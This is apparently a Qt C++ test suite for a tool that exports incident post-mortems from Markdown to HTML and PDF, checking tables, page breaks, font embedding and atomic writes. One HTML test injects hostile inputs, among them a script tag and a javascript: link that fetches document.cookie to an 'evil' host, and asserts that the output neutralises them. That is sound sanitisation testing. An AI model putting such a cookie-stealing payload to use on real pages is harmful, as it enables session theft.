#include "markdowndocument.h"
#include "reportwriter.h"

#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QTextFrame>
#include <QTextList>
#include <QTextTable>

using namespace qd;
using namespace Qt::StringLiterals;

// The post-mortem's files (issue 7): the Markdown built into a document
// with a cursor (tables at their size, not via setMarkdown), self-contained
// HTML, and a PDF read back with poppler's pdftotext and pdffonts: the text
// is there once, the table header repeats on every page, every font is
// embedded, and files are replaced atomically.
class TestReportWriter final : public QObject
{
    Q_OBJECT
    QTemporaryDir m_dir;

    static QString tool(const char *name)
    {
        const QString path = QStandardPaths::findExecutable(QLatin1String(name));
        if (path.isEmpty())
            qWarning("%s is missing: scripts/test installs poppler-utils", name);
        return path;
    }

    static QString run(const QString &program, const QStringList &args)
    {
        QProcess p;
        p.start(program, args);
        if (!p.waitForFinished(30'000) || p.exitCode() != 0)
            return QStringLiteral("<%1 failed: %2>").arg(program, QString::fromUtf8(p.readAllStandardError()));
        return QString::fromUtf8(p.readAllStandardOutput());
    }

    // A report long enough for several pages: a timeline of `rows` rows.
    static ReportWriter::Report longReport(int rows)
    {
        QString md = u"# Post-mortem: Trade service down\n\n| | |\n|---|---|\n| Severity | SEV1 |\n| Commander | ana |\n\n"
                     "## Summary\n\nOrders failed with **503** after the `2.4.1` deploy.\n\n## Timeline\n\n"
                     "| Time (UTC) | Who | What |\n|---|---|---|\n"_s;
        for (int i = 0; i < rows; ++i)
            md += u"| 2026-11-22 03:%1 | ana | event number %2 of the timeline%3 |\n"_s.arg(i % 60, 2, 10, QLatin1Char('0'))
                      .arg(i)
                      .arg(i == 3 || i % 7 == 5 ? u", and a long one: the router answered 503 to every order while the queue grew; "
                                    "we paused the bot, rolled back to 2.4.0 and replayed the queue by hand"_s
                                  : QString());
        md += u"\n## Root cause\n\n«incident.rootCause»\n"_s;
        return {u"Post-mortem: Trade service down"_s, md, QDateTime(QDate(2026, 11, 22), QTime(4, 0), Qt::UTC)};
    }

private slots:
    void initTestCase() { QVERIFY(m_dir.isValid()); }

    void documentIsBuiltWithTables()
    {
        QTextDocument doc;
        MarkdownDocument::build(&doc, u"# Title\n\n| | |\n|---|---|\n| Severity | SEV1 |\n\nSome *text* with «incident.rootCause».\n\n"
                                       "- one\n- two\n  - nested\n\n| A | B |\n|---|--:|\n| 1 \\| x | 2<br>3 |\n\n```bash\necho a\necho b\n```\n"_s);
        QList<QTextTable *> tables;
        QList<QTextList *> lists;
        for (QTextBlock b = doc.begin(); b.isValid(); b = b.next()) {
            if (auto *t = qobject_cast<QTextTable *>(QTextCursor(b).currentTable()); t && !tables.contains(t))
                tables << t;
            if (b.textList() && !lists.contains(b.textList()))
                lists << b.textList();
        }
        QCOMPARE(tables.size(), 2);
        // The title block's header of empty cells is dropped.
        QCOMPARE(tables[0]->rows(), 1);
        QCOMPARE(tables[0]->cellAt(0, 0).firstCursorPosition().block().text(), u"Severity"_s);
        QCOMPARE(tables[1]->rows(), 2);
        QCOMPARE(tables[1]->format().headerRowCount(), 1);
        QCOMPARE(tables[1]->cellAt(1, 0).firstCursorPosition().block().text(), u"1 | x"_s);
        QCOMPARE(tables[1]->cellAt(1, 1).firstCursorPosition().block().text(), u"2\u20283"_s);
        QCOMPARE(tables[1]->cellAt(1, 1).firstCursorPosition().blockFormat().alignment() & Qt::AlignHorizontal_Mask, Qt::AlignRight);
        QCOMPARE(lists.size(), 2);   // the nested list is its own
        QCOMPARE(doc.begin().text(), u"Title"_s);
        QCOMPARE(doc.begin().blockFormat().headingLevel(), 1);

        // The unfilled field is highlighted, the text around it is not.
        const int at = doc.toPlainText().indexOf(u"«incident.rootCause»"_s);
        QVERIFY(at > 0);
        QTextCursor c(&doc);
        c.setPosition(at + 2);
        QVERIFY(c.charFormat().background().style() != Qt::NoBrush);
        c.setPosition(at - 2);
        QCOMPARE(c.charFormat().background().style(), Qt::NoBrush);
        // A code block stays one block, its lines kept.
        QCOMPARE(doc.lastBlock().text(), u"echo a\u2028echo b"_s);
    }

    // Half-typed and odd Markdown: a table that is only a blank header
    // (removing its row deletes the table), entities, a short row.
    void oddMarkdown()
    {
        QTextDocument doc;
        MarkdownDocument::build(&doc, u"Status\n\n| | |\n|---|---|\n"_s);
        QCOMPARE(doc.toPlainText().trimmed(), u"Status"_s);
        MarkdownDocument::build(&doc, u"| | |\n|---|---|\n\nafter"_s);
        QCOMPARE(doc.toPlainText().trimmed(), u"after"_s);
        MarkdownDocument::build(&doc, u"it&apos;s &mdash; &copy; &hellip; &#x2713; &amp;"_s);
        QCOMPARE(doc.toPlainText(), u"it's — © … ✓ &"_s);
        MarkdownDocument::build(&doc, u"| a | b | c |\n|---|---|---|\n| 1 |\n| 1 | 2 | 3 | 4 |\n"_s);
        QVERIFY(doc.toPlainText().contains(u'3'));
    }

    void htmlIsSelfContained()
    {
        ReportWriter::Report r = longReport(3);
        r.markdown += u"\nA note: <script>alert(1)</script> <img src=\"http://example.org/x.png\">\n\n| a |\n|---|\n| one<br>two |\n"
                       "\n[the runbook](javascript:fetch('//evil/'+document.cookie)) [*also*](data:text/html,x) "
                       "![tracker](https://tracker.example/p.png) [the dashboard](https://grafana.example/d/1)\n"_s;
        const QString html = QString::fromUtf8(ReportWriter::html(r));
        QVERIFY(html.startsWith(u"<!DOCTYPE html>"_s));
        QVERIFY(html.contains(u"<title>Post-mortem: Trade service down</title>"_s));
        QVERIFY(html.contains(u"<style>"_s));
        QVERIFY(html.contains(u"<td>event number 2 of the timeline</td>"_s));
        QVERIFY(html.contains(u"one<br>two"_s));
        // Nothing fetched, nothing run: what came from the record is text.
        QVERIFY(!html.contains(u"<script"_s));
        QVERIFY(!html.contains(u"<img"_s));
        QVERIFY(!html.contains(u"<link"_s));
        QVERIFY(html.contains(u"&lt;script&gt;"_s));
        QVERIFY(!html.contains(u"javascript:"_s.prepend(u"href=\""_s)));
        QVERIFY(!html.contains(u"href=\"data:"_s));
        QVERIFY(html.contains(u"the runbook"_s));
        QVERIFY(html.contains(u"<em>also</em>"_s));
        QVERIFY(html.contains(u"[tracker]"_s));
        QVERIFY(html.contains(u"<a href=\"https://grafana.example/d/1\">the dashboard</a>"_s));
        QVERIFY(html.contains(u"Generated by Quarterdeck on 2026-11-22 04:00 UTC"_s));
    }

    void pdfReadsBack()
    {
        const QString pdftotext = tool("pdftotext");
        const QString pdffonts = tool("pdffonts");
        QVERIFY(!pdftotext.isEmpty() && !pdffonts.isEmpty());
        const int rows = 500;
        const QString path = m_dir.filePath(u"pm.pdf"_s);
        QString error;
        QVERIFY2(ReportWriter::write(longReport(rows), ReportWriter::Format::Pdf, path, &error), qPrintable(error));

        if (qEnvironmentVariableIsSet("QD_KEEP_PDF"))
            QFile::copy(path, qEnvironmentVariable("QD_KEEP_PDF"));
        const QString text = run(pdftotext, {u"-layout"_s, path, u"-"_s});
        QVERIFY2(text.contains(u"Post-mortem: Trade service down"_s), qPrintable(text.left(500)));
        QVERIFY(text.contains(u"Orders failed with 503 after the 2.4.1 deploy."_s));
        QVERIFY(text.contains(u"«incident.rootCause»"_s));
        // Every row once, all of it: none cut between pages, none drawn twice
        // (clipped text is still in a PDF's text layer).
        for (int i = 0; i < rows; ++i)
            QVERIFY2(text.count(u"event number %1 of"_s.arg(i)) == 1, qPrintable(QString::number(i)));
        QCOMPARE(text.count(u"replayed the queue by hand"_s), 1 + (rows - 5 + 6) / 7);
        const int pages = int(text.count(u'\f'));
        QVERIFY2(pages >= 4, qPrintable(QString::number(pages)));
        QVERIFY(text.contains(u"Page 1 of %1"_s.arg(pages)));
        QVERIFY(text.contains(u"Page %1 of %1"_s.arg(pages)));
        // A long timeline is set as lines: its columns still line up.
        const QString header = text.split(u'\n').filter(u"Time (UTC)"_s).value(0);
        const QString first = text.split(u'\n').filter(u"event number 0 of"_s).value(0);
        QVERIFY2(header.indexOf(u"Who"_s) == first.indexOf(u"ana"_s) && header.indexOf(u"What"_s) == first.indexOf(u"event"_s),
                 qPrintable(header + u'\n' + first));
        // A long entry wraps under its own column, not back to the time.
        const QString wrapped = text.split(u'\n').filter(u"to every order"_s).value(0);
        QVERIFY2(wrapped.indexOf(QRegularExpression(u"\\S"_s)) == header.indexOf(u"What"_s), qPrintable(header + u'\n' + wrapped));

        // pdffonts: a header, a rule, then one line per font; "emb" is the
        // fourth column from the right (emb sub uni object ID).
        const QStringList fonts = run(pdffonts, {path}).split(u'\n', Qt::SkipEmptyParts).mid(2);
        QVERIFY(!fonts.isEmpty());
        bool dejavu = false;
        for (const QString &line : fonts) {
            const QStringList cols = line.split(u' ', Qt::SkipEmptyParts);
            QVERIFY2(cols.size() >= 6 && cols.at(cols.size() - 5) == u"yes", qPrintable(u"not embedded: "_s + line));
            dejavu = dejavu || line.startsWith(u"DejaVuSans"_s);
        }
        QVERIFY(dejavu);
    }

    // A table too short to be set as lines but longer than a piece: in
    // pieces, each with its header, every row once.
    void pdfTablePieces()
    {
        const QString pdftotext = tool("pdftotext");
        QVERIFY(!pdftotext.isEmpty());
        const QString path = m_dir.filePath(u"pieces.pdf"_s);
        QString error;
        QVERIFY2(ReportWriter::write(longReport(55), ReportWriter::Format::Pdf, path, &error), qPrintable(error));
        const QString text = run(pdftotext, {u"-layout"_s, path, u"-"_s});
        // Each piece's header, and again where a piece runs onto a new page.
        QVERIFY2(text.count(u"Time (UTC)"_s) >= 2, qPrintable(text));
        for (int i = 0; i < 55; ++i)
            QCOMPARE(text.count(u"event number %1 of"_s.arg(i)), 1);
    }

    // Long rows in pieces (the long text is not in the last column, so not
    // lines): every row once across the page breaks.
    void pdfLongPieces()
    {
        const QString pdftotext = tool("pdftotext");
        QVERIFY(!pdftotext.isEmpty());
        QString md = u"# Steps\n\n| Procedure | Step | Outcome |\n|---|---|---|\n"_s;
        const int rows = 400;
        for (int i = 0; i < rows; ++i)
            md += u"| Service-Level Rollback › Bad Deploy Rollback, run %1%2 | 3 | ok%1 |\n"_s.arg(i).arg(
                i % 5 == 2 ? u" with a much longer description that wraps onto a second and a third line of its cell"_s : QString());
        const QString path = m_dir.filePath(u"steps.pdf"_s);
        QString error;
        QVERIFY2(ReportWriter::write({u"Steps"_s, md, {}}, ReportWriter::Format::Pdf, path, &error), qPrintable(error));
        const QString text = run(pdftotext, {path, u"-"_s});
        for (int i = 0; i < rows; ++i)
            QVERIFY2(text.count(u"ok%1\n"_s.arg(i)) == 1, qPrintable(u"ok%1: %2 times"_s.arg(i).arg(text.count(u"ok%1\n"_s.arg(i)))));
    }

    // Rows with long unbreakable words, then a second long table.
    void pdfRowsOnceEach()
    {
        const QString pdftotext = tool("pdftotext");
        QVERIFY(!pdftotext.isEmpty());
        const int n = 500;
        QString md = u"# T\n\n| Time | Who | What |\n|---|---|---|\n"_s;
        for (int i = 0; i < n; ++i)
            md += u"| 2026-11-22 03:%1 | ana | ROW%2 event text that is moderately long so it wraps maybe %3 |\n"_s.arg(i % 60, 2, 10, QLatin1Char('0'))
                      .arg(i, 5, 10, QLatin1Char('0'))
                      .arg(QString(i % 7 * 10, u'x'));
        md += u"\n## Other\n\n| A | B |\n|---|---|\n"_s;
        for (int i = 0; i < n / 2; ++i)
            md += u"| K%1 | val |\n"_s.arg(i, 5, 10, QLatin1Char('0'));
        // And prose long enough to run over a page break.
        md += u"\n## Root cause\n\n"_s;
        for (int i = 0; i < 1500; ++i)
            md += u"w%1 "_s.arg(i, 4, 10, QLatin1Char('0'));
        md += u"\n\nEND\n"_s;
        const QString path = m_dir.filePath(u"rows.pdf"_s);
        QString error;
        QVERIFY2(ReportWriter::write({u"T"_s, md, {}}, ReportWriter::Format::Pdf, path, &error), qPrintable(error));
        if (qEnvironmentVariableIsSet("QD_KEEP_PDF"))
            QFile::copy(path, qEnvironmentVariable("QD_KEEP_PDF") + u".rows.pdf"_s);
        const QString text = run(pdftotext, {path, u"-"_s});
        for (int i = 0; i < n; ++i)
            QVERIFY2(text.count(u"ROW%1"_s.arg(i, 5, 10, QLatin1Char('0'))) == 1, qPrintable(u"ROW%1"_s.arg(i)));
        for (int i = 0; i < n / 2; ++i)
            QVERIFY2(text.count(u"K%1"_s.arg(i, 5, 10, QLatin1Char('0'))) == 1, qPrintable(u"K%1"_s.arg(i)));
        for (int i = 0; i < 1500; ++i)
            QVERIFY2(text.count(u"w%1"_s.arg(i, 4, 10, QLatin1Char('0'))) == 1, qPrintable(u"w%1"_s.arg(i)));
    }

    void writesAtomically()
    {
        const QString path = m_dir.filePath(u"keep.md"_s);
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("the old report\n");
        old.close();
        QString error;
        QVERIFY(ReportWriter::write(longReport(1), ReportWriter::Format::Markdown, path, &error));
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        QVERIFY(f.readAll().startsWith("# Post-mortem: Trade service down"));
        // Nowhere to write: an error naming the file, nothing left behind.
        const QString bad = m_dir.filePath(u"missing/dir/pm.pdf"_s);
        QVERIFY(!ReportWriter::write(longReport(1), ReportWriter::Format::Pdf, bad, &error));
        QVERIFY2(error.contains(bad), qPrintable(error));
        QVERIFY(!QFile::exists(bad));
    }

    void formatNames()
    {
        ReportWriter::Format f = ReportWriter::Format::Markdown;
        QVERIFY(ReportWriter::formatFromName(u"PDF"_s, &f));
        QCOMPARE(f, ReportWriter::Format::Pdf);
        QVERIFY(ReportWriter::formatFromName(u"html"_s, &f));
        QCOMPARE(f, ReportWriter::Format::Html);
        QVERIFY(!ReportWriter::formatFromName(u"docx"_s, &f));
    }
};

QTEST_MAIN(TestReportWriter)
#include "tst_reportwriter.moc"
